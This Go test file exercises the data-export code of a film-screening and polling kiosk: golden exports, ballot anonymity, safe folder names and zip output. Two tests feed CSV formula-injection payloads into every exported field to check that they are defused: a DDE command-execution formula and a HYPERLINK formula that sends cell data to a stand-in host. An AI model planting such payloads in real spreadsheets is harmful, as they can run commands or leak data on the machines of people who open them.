package export

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"iter"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"go.uber.org/goleak"

	"mimpi-kiosk/internal/screening"
	"mimpi-kiosk/internal/screening/journaltest"
)

var update = flag.Bool("update", false, "write the golden files anew")

func TestMain(m *testing.M) {
	if dir := os.Getenv(exportForEver); dir != "" {
		exportTwoThings(dir)
		return
	}
	goleak.VerifyTestMain(m)
}

// made is a Source of events in memory.
type made struct {
	events []screening.Recorded
	broken string // a screening that cannot be read to its end
}

func (m made) ScreeningIDs(context.Context) ([]string, error) {
	var out []string
	for _, r := range m.events {
		if p, ok := r.Event.(screening.ScreeningPlanned); ok {
			out = append(out, p.Screening)
		}
	}
	slices.Reverse(out)
	return out, nil
}

var errBroken = errors.New("a page of the journal cannot be read")

func (m made) Events(_ context.Context, id string) iter.Seq2[screening.Recorded, error] {
	return func(yield func(screening.Recorded, error) bool) {
		var started *screening.Recorded
		in := false
		for i, r := range m.events {
			if p, ok := r.Event.(screening.ScreeningPlanned); ok {
				if in = p.Screening == id; in && started != nil && !yield(*started, nil) {
					return
				}
			}
			if in && !yield(r, nil) {
				return
			}
			if in && id == m.broken {
				yield(screening.Recorded{}, errBroken)
				return
			}
			if _, ok := r.Event.(screening.KioskStarted); ok && !in {
				started = &m.events[i]
			}
		}
	}
}

func (m made) ClockSettings(ctx context.Context, id string) ([]screening.Recorded, error) {
	boots := map[string]bool{}
	for r := range m.Events(ctx, id) {
		boots[r.Stamp.Boot] = true
	}
	var out []screening.Recorded
	for _, r := range m.events {
		if _, ok := r.Event.(screening.ClockSet); ok && boots[r.Stamp.Boot] {
			out = append(out, r)
		}
	}
	return out, nil
}

// goldenEvening is one evening with everything in it, the same for ever.
func goldenEvening() *journaltest.Kiosk {
	k := journaltest.NewKiosk("kupang-07", time.Date(2026, 11, 24, 10, 30, 0, 0, time.UTC))
	f, b := screening.FromFacilitator, screening.FromButtons
	do := func(from screening.Source, c screening.Command) {
		if !k.Do(from, c) {
			panic(fmt.Sprintf("%#v was refused", c))
		}
	}
	do(f, screening.PlanScreening{Screening: "0198d0c2-7c2e-7a55-9c1e-2f8e4d469d0b", Programme: journaltest.Programme(), Details: screening.Details{
		Regency: "sumba-barat-daya", Venue: "Balai Desa \"Kodi\"; Utara", Audience: screening.Public, Label: "=SUM(A1:A9)",
		HeldAt: time.Date(2026, 11, 24, 11, 0, 0, 0, time.UTC)}})
	do(f, screening.MoveTo{Step: screening.Doors})
	for _, c := range []string{"woman", "woman", "man", "girl", "girl", "girl", "boy", "woman"} {
		do(b, screening.CountAttendee{Category: c})
	}
	do(b, screening.UndoCount{})
	do(f, screening.CountRow{Row: "1", Counts: map[string]int{"woman": 9, "man": 9}})
	do(f, screening.CountRow{Row: "1", Counts: map[string]int{"woman": 8, "man": 7}})
	do(f, screening.CorrectAttendance{Category: "boy", Delta: 2, Reason: "came in by the window"})
	do(f, screening.RecordDisability{Count: new(3)})
	do(f, screening.MoveTo{Step: screening.PollBefore})
	ask := func(q string, round int, touch ...string) {
		do(f, screening.OpenQuestion{Question: q})
		for _, choices := range touch {
			do(screening.FromTouch, screening.CastBallot{Question: q, Round: round, Choices: strings.Fields(choices), Channel: screening.ByTouch})
		}
	}
	phone := func(q string, round int, voter, choices string) {
		do(screening.FromPhone, screening.CastBallot{Question: q, Round: round, Choices: strings.Fields(choices), Channel: screening.ByPhone, Voter: voter})
	}
	ask("q1", 1, "b", "a", "b", "", "c")
	phone("q1", 1, "secret-key-1", "c")
	phone("q1", 1, "secret-key-2", "b")
	phone("q1", 1, "secret-key-1", "a")
	do(f, screening.CloseQuestion{Question: "q1"})
	do(f, screening.CountHands{Question: "q1", Counts: map[string]int{"a": 5, "b": 11}})
	do(f, screening.MoveTo{Step: screening.FilmStep})
	do(f, screening.PlayFilm{})
	do(screening.FromPlayer, screening.NotePosition{Epoch: k.State.Playback.Epoch, At: 61000, Duration: 600000})
	k.Wait(3 * time.Minute)
	k.Alone = true
	k.Restart("kupang-07")
	do(f, screening.SetClock{Now: time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)})
	do(f, screening.PlayFilm{})
	do(screening.FromPlayer, screening.FinishFilm{Epoch: k.State.Playback.Epoch, At: 600000})
	do(f, screening.MoveTo{Step: screening.Discussion})
	ask("q1", 2, "a", "a", "b")
	do(f, screening.CloseQuestion{Question: "q1"})
	do(f, screening.CountHands{Question: "q1", Counts: map[string]int{"a": 12, "b": 3}})
	do(f, screening.ShowResults{Question: "q1"})
	ask("q1", 3, "a", "b")
	do(f, screening.CloseQuestion{Question: "q1"})
	do(f, screening.CountHands{Question: "q1", Counts: map[string]int{"a": 19}})
	do(f, screening.RevealQuestion{Question: "q1"})
	ask("q2", 1, "a b", "b a", "d", "a")
	phone("q2", 1, "secret-key-1", "c d")
	do(f, screening.MoveTo{Step: screening.Closing})
	do(f, screening.NoteEvening{EveningNoted: screening.EveningNoted{Went: []string{"film_stopped"}}})
	do(f, screening.MoveTo{Step: screening.Ended})
	do(f, screening.NoteEvening{EveningNoted: screening.EveningNoted{
		Went: []string{"rain_on_roof", "split_by_language"}, Away: []string{"women"}, Why: []string{"field_work", "not_told_in_time"}}})
	return k
}

func TestGolden(t *testing.T) {
	dir := t.TempDir()
	key, err := OpenKey(filepath.Join("testdata", "only-for-tests.key"))
	if err != nil {
		t.Fatal(err)
	}
	folders, err := Write(t.Context(), made{events: goldenEvening().Events}, dir, Options{Key: key})
	if err != nil || len(folders) != 1 {
		t.Fatalf("%v %v", folders, err)
	}
	if want := filepath.Join(dir, "mimpi-kiosk", "kupang-07", "2026-11-24_Balai-Desa-K_0198d0c2-7c2e-7a55-9c1e-2f8e4d469d0b"); folders[0] != want {
		t.Errorf("written to %s, want %s", folders[0], want)
	}
	got := tree(t, folders[0])
	got[IndexFile] = tree(t, dir)[IndexFile]
	for name, content := range got {
		golden := filepath.Join("testdata", "golden", name)
		if *update {
			if err := os.WriteFile(golden, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if content != string(want) {
			t.Errorf("%s is\n%s\nwant\n%s", name, content, want)
		}
	}
	if len(got) != 8 {
		t.Errorf("%d files, want 8", len(got))
	}
	checksums(t, folders[0])
}

// tree gives the files under dir by their names.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		content, err := os.ReadFile(path)
		name, _ := filepath.Rel(dir, path)
		out[filepath.ToSlash(name)] = string(content)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func checksums(t *testing.T, dir string) {
	t.Helper()
	cmd := exec.Command("sha256sum", "--check", "--strict", "SHA256SUMS")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil || strings.Count(string(out), ": OK\n") != 5 {
		t.Errorf("sha256sum --check in %s: %v\n%s", dir, err, out)
	}
}

// TestExportsAgreeWithTheRules plays random evenings and reads every file back.
func TestExportsAgreeWithTheRules(t *testing.T) {
	for seed := range uint64(4) {
		k := journaltest.Evenings(seed, 3, 400)
		src := made{events: k.Events}
		dir := t.TempDir()
		folders, err := Write(t.Context(), src, dir, Options{Rehearsals: true})
		if err != nil || len(folders) != 3 {
			t.Fatalf("%v %v", folders, err)
		}
		ids, _ := src.ScreeningIDs(t.Context())
		for i, id := range ids {
			state := screening.NewState()
			for r := range src.Events(t.Context(), id) {
				state.Apply(r)
			}
			files := tree(t, folders[i])
			summaryAgrees(t, state, files["summary.json"])
			eventsAgree(t, state, files["events.jsonl"])
			tablesAgree(t, state, files)
			for name, content := range files {
				if strings.Contains(content, "-phone-") {
					t.Errorf("%s of %s names a phone's key", name, id)
				}
			}
		}
	}
}

func summaryAgrees(t *testing.T, s *screening.State, content string) {
	t.Helper()
	var got Summary
	if err := json.Unmarshal([]byte(content), &got); err != nil {
		t.Fatal(err)
	}
	if got.Attendance.Total != s.Attendance.Total() || got.Screening.ID != s.Screening.ID || got.Screening.Rehearsal != s.Screening.Rehearsal {
		t.Errorf("summary says %+v, the rules %+v", got, s)
	}
	if len(got.Questions) == 0 {
		t.Error("no question was asked; the test shows nothing")
	}
	for _, q := range got.Questions {
		for i, r := range q.Rounds {
			want := s.Question(q.ID).Rounds[i]
			if phase := s.Phases(s.Question(q.ID))[i]; r.Phase != phase || q.AnswerShownEarly != s.Spoilt(s.Question(q.ID)) {
				t.Errorf("summary says %+v, the rules %q", r, phase)
			}
			if r.Ballots != want.Ballots || r.Skipped != want.Skipped || r.Step != want.Step || !reflect.DeepEqual(r.ByChannel, want.ByChannel) {
				t.Errorf("summary says %+v, the rules %+v", r, want)
			}
			for o, n := range want.Counts {
				if r.Counts[q.Options[o].ID] != n {
					t.Errorf("summary says %+v, the rules %+v", r, want)
				}
			}
		}
	}
	if e := got.Events; e.Last-e.First+1 < int64(e.ReplacedBallots) || e.First == 0 {
		t.Errorf("numbers of events: %+v", e)
	}
}

func eventsAgree(t *testing.T, want *screening.State, content string) {
	t.Helper()
	got := screening.NewState()
	last, lines := int64(0), 0
	for line := range strings.Lines(content) {
		r, err := DecodeLine([]byte(line))
		if err != nil {
			t.Fatal(err)
		}
		if r.Seq <= last {
			t.Errorf("event %d after event %d", r.Seq, last)
		}
		last = r.Seq
		lines++
		got.Apply(r)
	}
	if !reflect.DeepEqual(got.Attendance, want.Attendance) || !reflect.DeepEqual(got.Questions, want.Questions) ||
		!reflect.DeepEqual(got.Screening, want.Screening) || got.Step != want.Step || got.Seq != want.Seq {
		t.Errorf("%s: the exported events give\n%+v\nwant\n%+v", want.Screening.ID, got.Copy(), want.Copy())
	}
}

func tablesAgree(t *testing.T, s *screening.State, files map[string]string) {
	t.Helper()
	net, disability := 0, 0
	for _, row := range rows(t, files["attendance.csv"]) {
		fmt.Sscan("0"+row["net_count"], &net)
		var n int
		fmt.Sscan(row["net_count"], &n)
		for i, c := range s.Attendance.Categories {
			if row["category"] == c.ID && row["under_10_do_not_publish"] != fmt.Sprint(n > 0 && n < 10) {
				t.Errorf("attendance.csv says of few people %v", row)
			}
			if row["category"] == c.ID && (n != c.Total() || row["sex"] != s.Screening.Programme.Categories[i].Sex) {
				t.Errorf("attendance.csv says %v, the rules %+v", row, c)
			}
		}
		if row["disability"] != "" {
			fmt.Sscan(row["disability"], &disability)
		}
	}
	if d := s.Attendance.Disability; d != nil && disability != *d {
		t.Errorf("disability is %d, want %d", disability, *d)
	}
	ballots, hands := map[string]int{}, map[string]int{}
	for _, row := range rows(t, files["ballots.csv"]) {
		var n int
		fmt.Sscan(row["count"], &n)
		var round int
		fmt.Sscan(row["round"], &round)
		asked := s.Question(row["question"])
		few := asked.Rounds[round-1].Answered()
		if row["phase"] != string(s.Phases(asked)[round-1]) || row["under_10_do_not_publish"] != fmt.Sprint(few > 0 && few < 10) {
			t.Errorf("ballots.csv says %v, the rules %q and %d answers", row, s.Phases(asked), few)
		}
		if row["channel"] == "hands" {
			hands[row["question"]+row["round"]+strings.TrimPrefix(row["options"], "'")] += n
			continue
		}
		ballots[row["question"]+row["round"]+row["channel"]] += n
	}
	for _, q := range s.Questions {
		for _, r := range q.Rounds {
			for _, c := range []screening.Channel{screening.ByTouch, screening.ByPhone, screening.ByButton} {
				if got := ballots[fmt.Sprint(q.ID, r.N, c)]; got != r.ByChannel[c] {
					t.Errorf("ballots.csv has %d ballots of %s round %d by %s, want %d", got, q.ID, r.N, c, r.ByChannel[c])
				}
			}
			for i, n := range r.Hands {
				if got := hands[fmt.Sprint(q.ID, r.N, s.Asked(q.ID).Options[i].ID)]; got != n {
					t.Errorf("ballots.csv has %d hands for %s round %d option %d, want %d", got, q.ID, r.N, i, n)
				}
			}
		}
	}
}

// rows reads a CSV as Excel on an Indonesian Windows does.
func rows(t *testing.T, content string) []map[string]string {
	t.Helper()
	body, ok := strings.CutPrefix(content, "\xEF\xBB\xBF")
	if !ok {
		t.Fatal("no byte order mark")
	}
	if strings.Count(body, "\n") != strings.Count(body, "\r\n") || !strings.HasSuffix(body, "\r\n") {
		t.Fatal("lines do not end with CR LF")
	}
	r := csv.NewReader(strings.NewReader(body))
	r.Comma = ';'
	all, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, name := range all[0] {
			row[name] = cells[i]
		}
		out = append(out, row)
	}
	return out
}

func TestBallotsTellNoOrderAndNoTime(t *testing.T) {
	k := goldenEvening()
	dir := t.TempDir()
	folders, err := Write(t.Context(), made{events: k.Events}, dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	before := tree(t, folders[0])["events.jsonl"]
	for _, secret := range []string{"secret-key", "replaces"} {
		if strings.Contains(before, secret) {
			t.Errorf("events.jsonl holds %q", secret)
		}
	}
	// The same people vote in another order and at other moments.
	rnd := rand.New(rand.NewPCG(1, 2))
	shuffled := slices.Clone(k.Events)
	var places []int
	for i, r := range shuffled {
		if b, ok := r.Event.(screening.BallotCast); ok && b.Question == "q1" && b.Round == 1 && b.Channel == screening.ByTouch {
			places = append(places, i)
		}
	}
	if len(places) != 5 {
		t.Fatalf("%d ballots", len(places))
	}
	for i := range places {
		j := rnd.IntN(i + 1)
		a, b := places[i], places[j]
		shuffled[a].Event, shuffled[b].Event = shuffled[b].Event, shuffled[a].Event
		shuffled[a].Stamp.Mono += screening.Millis(i)
		shuffled[a].Command += "x"
	}
	if reflect.DeepEqual(shuffled, k.Events) {
		t.Fatal("nothing was shuffled")
	}
	other := t.TempDir()
	if folders, err = Write(t.Context(), made{events: shuffled}, other, Options{}); err != nil {
		t.Fatal(err)
	}
	for name, content := range tree(t, folders[0]) {
		if want := tree(t, filepath.Join(dir, "mimpi-kiosk", "kupang-07", filepath.Base(folders[0])))[name]; content != want {
			t.Errorf("%s tells who voted when:\n%s\nwant\n%s", name, content, want)
		}
	}
}

func TestTwiceAddsNothing(t *testing.T) {
	k := journaltest.Evenings(5, 4, 100)
	dir := t.TempDir()
	first, err := Write(t.Context(), made{events: k.Events}, dir, Options{Rehearsals: true})
	if err != nil {
		t.Fatal(err)
	}
	before, stamps := tree(t, dir), inodes(t, dir)
	second, err := Write(t.Context(), made{events: k.Events}, dir, Options{Rehearsals: true})
	if err != nil || !slices.Equal(first, second) {
		t.Fatalf("%v, the second time %v (%v)", first, second, err)
	}
	if !reflect.DeepEqual(tree(t, dir), before) || !reflect.DeepEqual(inodes(t, dir), stamps) {
		t.Error("the second export touched something")
	}

	// The newest screening goes on under another venue: only its folder changes.
	details := k.State.Screening.Details
	details.Venue = "Gereja Ebenhaezer"
	if !k.Do(screening.FromFacilitator, screening.EditDetails{Details: details}) {
		t.Fatal("refused")
	}
	third, err := Write(t.Context(), made{events: k.Events}, dir, Options{Rehearsals: true})
	if err != nil || len(third) != len(first) || !strings.Contains(third[0], "_Gereja-Ebenhaezer_s4") {
		t.Fatalf("%v %v", third, err)
	}
	after := tree(t, dir)
	if len(after) != len(before) {
		t.Errorf("%d files, want %d", len(after), len(before))
	}
	for name := range after {
		if strings.Contains(name, "/.") {
			t.Errorf("%s was left behind", name)
		}
	}
	for _, folder := range third {
		checksums(t, folder)
	}

	// Somebody changed a file on the stick: the whole folder is made anew.
	victim := filepath.Join(third[1], "attendance.csv")
	if err := os.WriteFile(victim, []byte("nobody came"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Write(t.Context(), made{events: k.Events}, dir, Options{Rehearsals: true}); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(tree(t, dir), after) {
		t.Error("the changed file was not made anew")
	}
}

func inodes(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		i, err := d.Info()
		out[path] = fmt.Sprint(i.ModTime(), i.Sys().(*syscall.Stat_t).Ino)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestRehearsalsOnlyOnRequest(t *testing.T) {
	k := journaltest.NewKiosk("k1", time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC))
	k.Do(screening.FromFacilitator, screening.PlanScreening{Screening: "s1", Rehearsal: true, Programme: journaltest.Programme(),
		Details: screening.Details{Regency: "belu", Venue: "Kantor", Audience: screening.Students, HeldAt: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)}})
	for rehearsals, want := range map[bool]int{false: 0, true: 1} {
		folders, err := Write(t.Context(), made{events: k.Events}, t.TempDir(), Options{Rehearsals: rehearsals})
		if err != nil || len(folders) != want {
			t.Errorf("rehearsals %t: %v %v", rehearsals, folders, err)
		}
		for _, f := range folders {
			for _, row := range rows(t, tree(t, f)["attendance.csv"]) {
				if !strings.Contains(row["data_quality"], "rehearsal") {
					t.Errorf("not marked: %v", row)
				}
			}
		}
	}
}

func TestCells(t *testing.T) {
	for in, want := range map[string]string{
		"":                    "",
		"Balai Desa":          "Balai Desa",
		"SDN 1":               "SDN 1",
		"=1+1":                "'=1+1",
		"+62 811":             "'+62 811",
		"-2":                  "'-2",
		"@SUM(A1)":            "'@SUM(A1)",
		" =1+1":               "' =1+1",
		"\t=1+1":              "' =1+1",
		"\tBalai":             "' Balai",
		"\rBalai":             "' Balai",
		"＝1+1":                "'＝1+1",
		"'quoted":             "''quoted",
		"two\r\nlines":        "two  lines",
		"53.18":               "'53.18",
		"53.10":               "'53.10",
		"3-4":                 "'3-4",
		"1/2":                 "'1/2",
		"12:30":               "'12:30",
		"007":                 "'007",
		"1e5":                 "'1e5",
		"50%":                 "'50%",
		"1 Nov":               "'1 Nov",
		"Mei 2026":            "'Mei 2026",
		"Mei":                 "Mei",
		"Maria 1":             "'Maria 1", // like a month; harmless
		"0-17":                "0-17",
		"18+":                 "18+",
		"6-12":                "'6-12",
		"0198d0c2-7c2e":       "0198d0c2-7c2e",
		"Sékolah \u2028 tua":  "Sékolah \u2028 tua",
		"a;b \"c\"":           "a;b \"c\"",
		"(skipped)":           "(skipped)",
		"=cmd|' /C calc'!A0":  "'=cmd|' /C calc'!A0",
		"Balai\x00Desa\x1b[m": "Balai Desa [m",
	} {
		if got := Text(in); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
}

func TestFormulasAreDefusedInFiles(t *testing.T) {
	evil := "=HYPERLINK(\"http://x/\"&A1;\"click\")"
	k := journaltest.NewKiosk("=k1", time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC))
	p := journaltest.Programme()
	p.Pack, p.Film.Title, p.Film.ID = evil, screening.Text{"id": evil}, evil
	p.Regencies[0].Name, p.Regencies[0].BPS, p.Regencies[0].Kemendagri = evil, evil, evil
	for i := range p.Questions {
		p.Questions[i].Text = screening.Text{"id": evil}
		for o := range p.Questions[i].Options {
			p.Questions[i].Options[o].Text = screening.Text{"id": evil}
		}
	}
	do := func(c screening.Command) {
		if !k.Do(screening.FromFacilitator, c) {
			t.Fatalf("%#v was refused", c)
		}
	}
	do(screening.PlanScreening{Screening: "@s1", Programme: p, Details: screening.Details{
		Regency: "kupang", Venue: evil, Audience: screening.Students, Label: evil, HeldAt: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)}})
	do(screening.MoveTo{Step: screening.Discussion})
	do(screening.OpenQuestion{Question: "q1"})
	do(screening.CastBallot{Question: "q1", Round: 1, Choices: []string{"a"}, Channel: screening.ByTouch})
	folders, err := Write(t.Context(), made{events: k.Events}, t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defused := 0
	for name, content := range tree(t, folders[0]) {
		if !strings.HasSuffix(name, ".csv") {
			continue
		}
		for _, row := range rows(t, content) {
			for column, cell := range row {
				if strings.IndexAny(cell, "=+-@") == 0 {
					t.Errorf("%s, %s: %q", name, column, cell)
				}
				if strings.HasPrefix(cell, "'=") {
					defused++
				}
			}
		}
	}
	if defused < 10 {
		t.Errorf("only %d cells were defused; the test shows little", defused)
	}
}

func TestNamesAreSafeOnFAT(t *testing.T) {
	safe := regexp.MustCompile(`^[0-9]{4}-[0-9]{2}-[0-9]{2}_[A-Za-z0-9-]+_[A-Za-z0-9-]+$`)
	held := time.Date(2026, 11, 24, 19, 0, 0, 0, wita)
	seen := map[string]string{}
	for _, venue := range []string{"", "Balai Desa", "a:b/c\\d*e?f\"g<h>i|j", "..", "日本", strings.Repeat("panjang ", 30), "CON", "tail-", "Sekolah\x00"} {
		for _, id := range []string{"s1", "S.1", "s/1", "s\\1", "", "con", "NUL", "..", "0198d0c2-7c2e-7a55-9c1e-2f8e4d469d0b", strings.Repeat("x", 200), strings.Repeat("x", 201), "日本", "-s1", "_s1"} {
			name, suffix := folderName(held, venue, id)
			if !safe.MatchString(name) || len(name) > longestName || !strings.HasSuffix(name, suffix) {
				t.Errorf("%q, %q: %q (%d)", venue, id, name, len(name))
			}
			if other, taken := seen[suffix]; taken && other != id {
				t.Errorf("%q and %q share %q", id, other, suffix)
			}
			seen[suffix] = id
			if k := safeID(id); dosDevices.MatchString(k) || len(k) > longestID || k == "" || strings.HasPrefix(k, ".") {
				t.Errorf("kiosk %q: %q", id, k)
			}
		}
	}
	for _, held := range []time.Time{{}, time.Unix(0, 0), time.Date(30000, 1, 1, 0, 0, 0, 0, time.UTC)} {
		if name, _ := folderName(held, "Balai", "s1"); !safe.MatchString(name) {
			t.Errorf("%v: %q", held, name)
		}
	}
}

func TestOneBrokenScreeningDoesNotHoldTheOthersBack(t *testing.T) {
	k := journaltest.Evenings(7, 3, 50)
	src := made{events: k.Events, broken: "s2"}
	dir := t.TempDir()
	folders, err := Write(t.Context(), src, dir, Options{Rehearsals: true})
	if !errors.Is(err, errBroken) || !strings.Contains(err.Error(), "s2") || len(folders) != 2 {
		t.Errorf("%v %v", folders, err)
	}
	var buf bytes.Buffer
	if err := Zip(t.Context(), src, &buf, Options{Rehearsals: true}); !errors.Is(err, errBroken) {
		t.Errorf("zip: %v", err)
	}
	got := unzip(t, buf.Bytes())
	problem := got["mimpi-kiosk/MASALAH.txt"]
	if !strings.Contains(problem, "s2") || !strings.Contains(problem, "koordinator") {
		t.Errorf("MASALAH.txt is %q", problem)
	}
	delete(got, "mimpi-kiosk/MASALAH.txt")
	if !reflect.DeepEqual(got, tree(t, dir)) {
		t.Error("the zip differs from the folder")
	}
}

func unzip(t *testing.T, content []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(b)
	}
	return out
}

func TestZipHoldsTheSame(t *testing.T) {
	src := made{events: journaltest.Evenings(8, 3, 100).Events}
	dir := t.TempDir()
	if _, err := Write(t.Context(), src, dir, Options{}); err != nil {
		t.Fatal(err)
	}
	var one, two bytes.Buffer
	for _, w := range []io.Writer{&one, &two} {
		if err := Zip(t.Context(), src, w, Options{}); err != nil {
			t.Fatal(err)
		}
	}
	if !bytes.Equal(one.Bytes(), two.Bytes()) {
		t.Error("two zips of the same journal differ")
	}
	got, want := unzip(t, one.Bytes()), tree(t, dir)
	if len(want) == 0 || !reflect.DeepEqual(got, want) {
		t.Errorf("the zip holds %d files, the folder %d, or they differ", len(got), len(want))
	}
	wrong := errors.New("the phone went away")
	if err := Zip(t.Context(), src, failingWriter{wrong}, Options{}); !errors.Is(err, wrong) {
		t.Errorf("got %v, want %v", err, wrong)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if err := Zip(ctx, src, io.Discard, Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("got %v after the context had ended", err)
	}
	if _, err := Write(ctx, src, dir, Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("got %v after the context had ended", err)
	}
}

type failingWriter struct{ err error }

func (w failingWriter) Write([]byte) (int, error) { return 0, w.err }

func FuzzDecodeLine(f *testing.F) {
	e, err := gather(f.Context(), made{events: goldenEvening().Events}, "0198d0c2-7c2e-7a55-9c1e-2f8e4d469d0b", Options{})
	if err != nil {
		f.Fatal(err)
	}
	lines, err := e.eventLines()
	if err != nil {
		f.Fatal(err)
	}
	for line := range bytes.Lines(lines) {
		f.Add(line)
	}
	f.Add([]byte(`{"seq":1,"kind":"DoorsOpened","data":null}{}`))
	f.Add([]byte(`{"seq":-1,"kind":"DoorsOpened","data":{}}`))
	f.Fuzz(func(t *testing.T, line []byte) {
		r, err := DecodeLine(line)
		if err != nil {
			return
		}
		if r.Seq < 1 || r.Event == nil {
			t.Errorf("%q gave %+v", line, r)
		}
		s := screening.NewState()
		s.Apply(r)
	})
}
